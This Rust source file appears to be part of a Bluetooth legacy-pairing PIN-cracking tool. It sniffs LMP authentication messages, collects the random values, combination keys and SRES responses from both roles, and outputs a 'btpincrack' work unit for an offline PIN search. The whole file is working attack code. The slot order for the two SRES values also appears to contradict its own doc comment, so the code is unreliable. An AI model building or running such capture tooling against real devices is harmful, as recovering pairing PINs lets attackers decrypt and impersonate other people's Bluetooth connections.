//! Legacy-pairing transcript capture.
//!
//! Watches the LMP authentication opcodes flowing between both piconet
//! roles and collects the seven artifacts an offline PIN search needs:
//! IN_RAND, both COMB_KEYs, both AU_RANDs and both SRESs. Steps are only
//! accepted in protocol order and under the role constraints of legacy
//! pairing; anything else is ignored. Once every slot is filled the observer
//! emits one `btpincrack` work unit and re-arms for the next pairing.

use std::fmt::Write as _;

use frontline::lmp::AuthOpcode;
use num_traits::FromPrimitive;

// Progress mask. Bit 0 is the armed bit; the transcript is complete when
// every bit is set.
const ARMED: u8 = 1 << 0;
const GOT_IN_RAND: u8 = 1 << 1;
const GOT_COMB1: u8 = 1 << 2;
const GOT_COMB2: u8 = 1 << 3;
const GOT_AU_RAND1: u8 = 1 << 4;
const GOT_SRES1: u8 = 1 << 5;
const GOT_AU_RAND2: u8 = 1 << 6;
const GOT_SRES2: u8 = 1 << 7;
const COMPLETE: u8 = 0xFF;

const SLOTS: usize = 7;
const SLOT_LEN: usize = 16;
/// SRES values are 4 bytes; everything else fills a whole slot.
const SRES_LEN: usize = 4;

/// Accumulates one pairing transcript across both roles.
///
/// Slot layout: IN_RAND, initiator COMB_KEY, responder COMB_KEY, initiator
/// AU_RAND, responder AU_RAND, initiator-challenge SRES, responder-challenge
/// SRES. The initiator is whichever role sent IN_RAND. Input bytes are
/// copied; no borrowed data is retained.
pub struct PairingObserver {
    mask: u8,
    pin_master: bool,
    slots: [[u8; SLOT_LEN]; SLOTS],
}

impl Default for PairingObserver {
    fn default() -> Self {
        PairingObserver {
            mask: 0,
            pin_master: false,
            slots: [[0; SLOT_LEN]; SLOTS],
        }
    }
}

impl PairingObserver {
    /// Starts watching for a pairing. Progress of an already-armed observer
    /// is left alone.
    pub fn arm(&mut self) {
        if self.mask == 0 {
            self.mask = ARMED;
        }
    }

    /// Feeds one LMP opcode and its body. `sender_is_master` is the role
    /// that transmitted the PDU. Returns the finished work unit once the
    /// seventh artifact lands.
    pub fn observe(&mut self, op1: u8, sender_is_master: bool, body: &[u8]) -> Option<String> {
        if self.mask == 0 {
            return None;
        }
        match AuthOpcode::from_u8(op1)? {
            AuthOpcode::InRand => {
                // A new IN_RAND restarts the transcript unconditionally.
                self.mask = ARMED | GOT_IN_RAND;
                self.pin_master = sender_is_master;
                self.store(0, body);
            }
            AuthOpcode::CombKey => {
                if self.mask & GOT_IN_RAND == 0 {
                    return None;
                }
                if sender_is_master == self.pin_master {
                    self.store(1, body);
                    self.mask |= GOT_COMB1;
                } else {
                    self.store(2, body);
                    self.mask |= GOT_COMB2;
                }
            }
            AuthOpcode::AuRand => {
                if self.mask & GOT_COMB1 == 0 || self.mask & GOT_COMB2 == 0 {
                    return None;
                }
                if sender_is_master == self.pin_master {
                    self.store(3, body);
                    self.mask |= GOT_AU_RAND1;
                } else {
                    self.store(4, body);
                    self.mask |= GOT_AU_RAND2;
                }
            }
            AuthOpcode::Sres => {
                // Each SRES answers the challenge the *other* role issued.
                if sender_is_master != self.pin_master {
                    if self.mask & GOT_AU_RAND1 == 0 {
                        return None;
                    }
                    self.store(6, body);
                    self.mask |= GOT_SRES1;
                } else {
                    if self.mask & GOT_AU_RAND2 == 0 {
                        return None;
                    }
                    self.store(5, body);
                    self.mask |= GOT_SRES2;
                }
            }
        }

        if self.mask != COMPLETE {
            return None;
        }
        let line = self.work_unit();
        self.mask = ARMED;
        Some(line)
    }

    fn store(&mut self, slot: usize, body: &[u8]) {
        let n = body.len().min(SLOT_LEN);
        self.slots[slot][..n].copy_from_slice(&body[..n]);
    }

    fn work_unit(&self) -> String {
        let mut line = String::from("btpincrack Go ");
        line.push_str(if self.pin_master {
            "<master> <slave>"
        } else {
            "<slave> <master>"
        });
        for (i, slot) in self.slots.iter().enumerate() {
            let n = if i >= 5 { SRES_LEN } else { SLOT_LEN };
            line.push(' ');
            for byte in &slot[..n] {
                let _ = write!(line, "{byte:02x}");
            }
        }
        line
    }
}
